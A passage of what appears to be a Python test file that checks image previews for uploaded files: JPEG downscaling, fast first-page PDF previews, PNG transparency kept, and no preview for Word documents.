    checked = check(image_bytes("JPEG", size=(1200, 600)), "poster.jpg")
    assert open_preview(checked).size == (480, 240)
    assert checked.content.tell() == 0


def test_it_previews_the_first_page_of_a_pdf_quickly():
    checked = check(pillow_pdf((600, 900)), "poster.pdf")
    started = time.perf_counter()
    image = open_preview(checked)
    assert time.perf_counter() - started < 1
    assert max(image.size) <= 480
    assert image.size[1] > image.size[0]


def test_it_previews_a_transparent_png_keeping_transparency():
    checked = check(image_bytes("PNG", size=(600, 600), mode="RGBA", color=(0, 0, 0, 0)), "a.png")
    assert open_preview(checked).mode == "RGBA"


def test_it_makes_no_preview_of_a_word_document():
    checked = check(docx_bytes(), "release.docx", allowed=PRESS_RELEASE)
    assert make_preview(checked) is None
